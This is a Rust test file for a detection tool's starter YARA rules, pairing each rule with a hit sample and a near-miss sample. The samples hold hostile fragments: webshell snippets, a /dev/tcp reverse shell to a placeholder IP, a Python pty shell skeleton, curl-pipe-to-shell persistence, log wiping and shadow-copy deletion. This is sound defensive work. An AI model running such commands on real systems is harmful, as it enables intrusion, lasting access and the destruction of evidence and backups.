//! The starter rules: each finds its sample and stays silent on a near miss; where files are looked for; what a user's
//! own rules do. The samples are no working programs: each is cut off before it could do anything.

use crate::{Said, Tree};
use evidence::{GapReason, Severity};
use inspect::yara::{Named, Rules};

fn elf(kind: u8, text: &[u8], size: usize) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    bytes.extend([kind, 0]);
    bytes.extend_from_slice(text);
    bytes.resize(bytes.len().max(size), 0);
    bytes
}

/// Rule, what it must find, what it must not find.
fn samples() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
    let php = |body: &str| format!("<?php /* sample */ {body}").into_bytes();
    let text = |body: &str| body.as_bytes().to_vec();
    vec![
        ("wf_webshell_php_runs_input", php("@eval($_POST['x'"), php("echo htmlspecialchars($_POST['x'")),
        ("wf_webshell_php_runs_input", php("system(base64_decode($_GET['c'"), php("// eval() is evil; $_GET['c'")),
        ("wf_webshell_php_calls_input", php("$_GET['f']($_POST['a'"), php("$f($_POST['a'")),
        ("wf_webshell_php_hidden_code", php("eval(gzinflate(base64_decode('"), php("gzinflate(base64_decode('")),
        (
            "wf_webshell_php_encrypted_channel",
            php("session_start(); $p=file_get_contents('php://input'); openssl_decrypt($p; eval("),
            php("session_start(); $p=file_get_contents('php://input'); openssl_decrypt($p"),
        ),
        (
            "wf_webshell_jsp_runs_input",
            text("<% Runtime.getRuntime().exec(request.getParameter(\"c\""),
            text("<% out.print(request.getParameter(\"c\""),
        ),
        (
            "wf_webshell_jsp_loads_class",
            text("<%! class U extends ClassLoader { defineClass(x }%> request.getReader().readLine"),
            text("class U extends ClassLoader { defineClass(x } "),
        ),
        ("wf_webshell_asp_runs_input", text("<%eval request(\"x\""), text("<%= request(\"x\")%>")),
        (
            "wf_webshell_aspx_starts_process",
            text("<%@ Page %> new ProcessStartInfo( \"cmd.exe\" Request.Form["),
            text("<%@ Page %> Request.Form[\"cmd.exe\"]"),
        ),
        ("wf_webshell_tunnel_page", text("X-CMD X-STATUS X-TARGET"), text("X-CMD X-STATUS")),
        (
            "wf_tunnel_go_program",
            elf(2, b"github.com/fatedier/frp/client", 300 << 10),
            elf(2, b"github.com/fatedier/golib", 300 << 10),
        ),
        (
            "wf_tunnel_earthworm",
            elf(2, b"lcx_listen lcx_tran lcx_slave rcsocks rssocks", 0),
            elf(2, b"lcx_listen rcsocks", 0),
        ),
        (
            "wf_tunnel_frp_configuration",
            text("[common]\nserver_addr = 203.0.113.9\nserver_port = 7000\n[ssh]\nlocal_port = 22\n"),
            text("[client]\nserver_addr = 203.0.113.9\nport = 7000\n"),
        ),
        (
            "wf_tunnel_nps_configuration",
            text("[common]\nserver_addr=203.0.113.9:8024\nvkey=abc\n"),
            text("[common]\nserver_addr=203.0.113.9:8024\nkey=abc\n"),
        ),
        (
            "wf_reverse_shell_shell",
            text("bash -i >& /dev/tcp/203.0.113.9/4444"),
            text("exec 3<>/dev/null; echo /dev/tcp/HOST/PORT"),
        ),
        (
            "wf_reverse_shell_script",
            text("import socket,os,pty\ns=socket.socket(\ns.connect((\nos.dup2(\npty.spawn(\"/bin/sh"),
            text("import socket\ns=socket.socket(\ns.connect((\n"),
        ),
        (
            "wf_tunnel_reverse_ssh",
            text("autossh -M 0 -N -R 2222:localhost:22 u@h"),
            text("ssh -N -L 2222:localhost:22 u@h\nchown -R 1000:100 /x"),
        ),
        (
            "wf_tamper_preload_library",
            elf(3, b"/etc/ld.so.preload\0readdir64\0dlsym\0/proc/\0", 0),
            elf(3, b"readdir64\0dlsym\0/proc/\0", 0),
        ),
        (
            "wf_tamper_pam_records",
            elf(3, b"pam_sm_authenticate\0pam_get_authtok\0fopen\0%s:%s\0/var/tmp/.x\0", 0),
            elf(3, b"pam_sm_authenticate\0pam_get_authtok\0syslog\0", 0),
        ),
        (
            "wf_tamper_wipes_traces",
            text("unset HISTFILE\nrm -f /var/log/wtmp\n"),
            text("HISTFILE=~/.bash_history\nrm -f /var/log/app.log\n"),
        ),
        (
            "wf_tamper_fetches_and_stays",
            text("curl -s http://x/a | sh\ncrontab -l\nchattr +i /x\n"),
            text("curl -s https://x/install | sh\n"),
        ),
        (
            "wf_tamper_no_way_back",
            text("vssadmin delete shadows /all\nwbadmin delete catalog\n"),
            text("vssadmin list shadows\nwbadmin get versions\n"),
        ),
        ("wf_tamper_mines_coins", text("stratum+tcp://p:1 donate-level"), text("stratum.example donate")),
        (
            "wf_tamper_encoded_powershell",
            text("IEX ([Convert]::FromBase64String('') -w hidden"),
            text("[Convert]::FromBase64String('')"),
        ),
    ]
}

fn names(bytes: &[u8]) -> Vec<String> {
    Rules::starter().scan(bytes, Named::default()).0.into_iter().map(|m| m.rule).collect()
}

#[test]
fn each_starter_rule_finds_its_sample_and_not_the_near_miss() {
    let rules = Rules::starter();
    assert_eq!(rules.refused(), []);
    let mut met = std::collections::BTreeSet::new();
    for (rule, hit, miss) in samples() {
        assert!(names(&hit).contains(&rule.to_owned()), "{rule} misses its sample: {:?}", names(&hit));
        assert_eq!(names(&miss), Vec::<String>::new(), "{rule}: near miss");
        met.insert(rule);
    }
    assert_eq!(met.len(), rules.count(), "every rule has a sample");
}

/// Debian's `yara` is the oracle: the same rules on the same files match in both engines.
#[test]
fn the_engine_agrees_with_yara_itself() {
    let t = Tree::new();
    for (n, (_, hit, miss)) in samples().into_iter().enumerate() {
        t.file(&format!("s/{n:02}-hit"), &hit);
        t.file(&format!("s/{n:02}-miss"), &miss);
    }
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../../packs/rules/yara");
    let files = ["webshell.yar", "tunnel.yar", "tamper.yar"].map(|f| format!("{folder}/{f}"));
    let told = std::process::Command::new("yara").arg("-r").args(&files).arg(t.0.join("s")).output();
    let Ok(told) = told else {
        println!("SKIPPED: yara is not installed (apt-get install yara)");
        return;
    };
    let mut want: Vec<String> = String::from_utf8(told.stdout)
        .unwrap()
        .lines()
        .filter_map(|l| l.split_once(' '))
        .map(|(rule, path)| format!("{} {rule}", path.rsplit('/').next().unwrap()))
        .collect();
    want.sort();
    let mut got = Vec::new();
    for (n, (_, hit, miss)) in samples().into_iter().enumerate() {
        got.extend(names(&hit).into_iter().map(|r| format!("{n:02}-hit {r}")));
        got.extend(names(&miss).into_iter().map(|r| format!("{n:02}-miss {r}")));
    }
    got.sort();
    assert!(want.len() >= 24, "{}", String::from_utf8_lossy(&told.stderr));
    assert_eq!(got, want);
}

#[test]
fn files_are_looked_for_where_back_doors_are_put() {
    let t = Tree::new();
    let shell = "<?php @eval($_POST['x'";
    t.file("var/www/html/up/x.php", shell);
    t.file("tmp/.cache", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
    t.mode("usr/local/bin/agent", "autossh -M 0 -N -R 2222:localhost:22 u@h\n", 0o755);
    t.file("home/ann/node_modules/x/x.php", shell);
    t.file("home/ann/notes.txt", shell);
    // A package owns this one: it is compared with the package, not searched.
    t.mode("usr/bin/owned", shell, 0o755);
    t.file("var/lib/dpkg/status", "Package: a\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n");
    t.file("var/lib/dpkg/info/a.list", "/usr/bin/owned\n");
    let said = Said::root(&t.0);
    let mut paths: Vec<String> = said.rows("yara.match").into_iter().map(|r| r.1).collect();
    paths.sort();
    assert_eq!(paths, ["/tmp/.cache", "/var/www/html/up/x.php"]);
    let elsewhere: Vec<String> = said.rows("yara.elsewhere").into_iter().map(|r| r.1).collect();
    assert_eq!(elsewhere, ["/usr/local/bin/agent"]);
    let row = said.row("yara.match", "path", "/var/www/html/up/x.php").unwrap().0;
    for part in ["rule=wf_webshell_php_runs_input", "severity=critical", "pack=webshell"] {
        assert!(row.contains(part), "{row}");
    }
    assert_eq!(said.one("yara.scanned").map(|s| s.0), Some("3".into()));
    assert_eq!(said.gap("yara.match"), None);
}

#[test]
fn rules_of_a_user_count_and_a_broken_file_costs_only_itself() {
    let good = "rule mine { meta: score = 85 description = \"a\\tb\" strings: $a = \"needle\" condition: $a and filename == \"n.sh\" }";
    let rules = Rules::with(&[
        ("good.yar".to_owned(), good.to_owned()),
        ("bad.yar".to_owned(), "rule broken { condition: nonsense }".to_owned()),
        ("inc.yar".to_owned(), "include \"/etc/passwd\"\nrule x { condition: true }".to_owned()),
    ]);
    let refused: Vec<&str> = rules.refused().iter().map(|r| r.file.as_str()).collect();
    assert_eq!(refused, ["bad.yar", "inc.yar"], "an include reads a file that nobody gave");
    assert!(rules.refused()[0].why.contains("nonsense"));
    let (found, late) = rules.scan(b"a needle", Named { name: "n.sh", path: "/n.sh" });
    assert!(!late);
    assert_eq!(
        (found[0].rule.as_str(), found[0].pack.as_str(), found[0].severity),
        ("mine", "good.yar", Severity::High)
    );
    assert!(!found[0].about.contains('\t'));
    assert_eq!(rules.scan(b"a needle", Named { name: "other", path: "/other" }).0, []);
    assert_ne!(rules.digest(), Rules::starter().digest());
}

#[test]
fn what_the_time_did_not_reach_is_a_gap() {
    let t = Tree::new();
    t.file("tmp/a", "x");
    t.mode("srv/a", "x", 0o755);
    let said = |limits| Said::of(inspect::Target::Root(t.0.clone()), limits);
    let one = said(inspect::Limits { yara_millis_max: 0, ..inspect::Limits::default() });
    assert_eq!((one.gap("yara.match"), one.gap("yara.elsewhere")), (None, Some(GapReason::Stopped)));
    let both = said(inspect::Limits { yara_likely_millis_max: 0, yara_millis_max: 0, ..inspect::Limits::default() });
    assert_eq!(
        (both.gap("yara.match"), both.gap("yara.elsewhere")),
        (Some(GapReason::Stopped), Some(GapReason::Stopped))
    );
}
